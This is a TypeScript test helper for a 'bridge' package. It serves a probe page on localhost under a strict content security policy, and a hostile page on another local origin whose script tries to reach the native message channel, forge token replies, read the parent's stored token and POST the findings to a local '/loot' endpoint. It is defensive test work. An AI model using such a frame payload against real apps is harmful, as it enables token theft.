// Serves the probe page of packages/bridge over http on this machine, with the policy of our pages, and a hostile page on another
// origin.
import { createServer, type RequestListener } from 'node:http';
import type { AddressInfo } from 'node:net';
import { fileURLToPath } from 'node:url';
import { build, type Rollup } from 'vite';

const SOURCES = new URL('../../packages/bridge/src/', import.meta.url);

/** Bundles one script of the package for old engines; its exports are properties of the global `name`. */
export async function bundleScript(path: string, name: string): Promise<string> {
  const [{ output }] = (await build({
    configFile: false,
    logLevel: 'error',
    build: {
      write: false,
      target: ['chrome64', 'safari12'],
      lib: { entry: fileURLToPath(new URL(path, SOURCES)), formats: ['iife'], name, fileName: name },
    },
  })) as [Rollup.RollupOutput];
  return output[0].code;
}

export type PageServer = { origin: string; close: () => Promise<void> };

async function listen(answer: RequestListener): Promise<PageServer> {
  const server = createServer(answer);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

const html = (body: string) => `<!doctype html><meta charset="utf-8"><meta name="theme-color" content="#fff">${body}`;

/** Serves the page at `/`, the same page with `framed` in an iframe at `/framed`, and an empty page at `/elsewhere`. */
export async function serveProbePage(framed?: string): Promise<PageServer> {
  const script = await bundleScript('testing/probe.ts', 'probe');
  const policy = [
    "default-src 'self'",
    // Our own pages allow no frames; the attack needs a page that does.
    `frame-src ${framed ?? "'none'"}`,
    "require-trusted-types-for 'script'",
    "trusted-types 'none'",
  ].join('; ');
  const probe = '<script src="/probe.js"></script><body>';
  const pages: Record<string, string> = {
    '/': html(probe),
    '/framed': html(`${probe}<iframe src="${framed}/" title="hostile"></iframe>`),
    '/elsewhere': html('elsewhere'),
  };
  return listen((request, response) => {
    const { pathname } = new URL(request.url!, 'http://localhost');
    const body = pathname === '/probe.js' ? script : pages[pathname];
    if (!body) return void response.writeHead(404).end();
    const type = pathname === '/probe.js' ? 'text/javascript' : 'text/html';
    response.writeHead(200, { 'content-type': type, 'content-security-policy': policy }).end(body);
  });
}

/** Tries everything that a frame can do: the channel by all its names, the parent's globals, messages to the parent. */
const HOSTILE = `
  const tries = {}, got = [];
  const attempt = (name, work) => { try { tries[name] = String(work()); } catch (error) { tries[name] = error.name; } };
  const ask = JSON.stringify({ v: 1, id: 'hostile0.1', action: 'getToken', payload: null, reply: 'shengyuShellReply' });
  const reply = { id: 'hostile0.1', ok: true, payload: { token: 'planted' } };
  window.shengyuShellReply = (text) => { got.push(text); return true; };
  addEventListener('message', (event) => { if (event.source === parent) got.push(event.data); });
  attempt('channel', () => window.reciveJson.postMessage(ask));
  attempt('handler', () => window.webkit.messageHandlers.reciveJson.postMessage(ask));
  attempt('parent channel', () => parent.reciveJson.postMessage(ask));
  attempt('parent reply', () => parent.shengyuShellReply(JSON.stringify(reply)));
  attempt('parent storage', () => parent.localStorage.getItem('settoken'));
  parent.postMessage(reply, '*');
  parent.postMessage(JSON.stringify({ v: 1, action: 'tokenChanged', payload: { token: 'planted' } }), '*');
  setTimeout(() => fetch('/loot', { method: 'POST', body: JSON.stringify({ tries, got }) }), 600);
`;

export type StolenData = { tries: Record<string, string>; got: unknown[] };

/** Serves a hostile page on another origin; `loot` is what this page got hold of. */
export async function serveHostilePage(): Promise<PageServer & { loot: Promise<StolenData> }> {
  let report!: (loot: StolenData) => void;
  const loot = new Promise<StolenData>((resolve) => (report = resolve));
  const server = await listen((request, response) => {
    if (request.method !== 'POST') {
      return void response.writeHead(200, { 'content-type': 'text/html' }).end(html(`<script>${HOSTILE}</script>`));
    }
    let body = '';
    request.setEncoding('utf8').on('data', (part) => (body += part));
    request.on('end', () => {
      response.end();
      report(JSON.parse(body) as StolenData);
    });
  });
  return { ...server, loot };
}
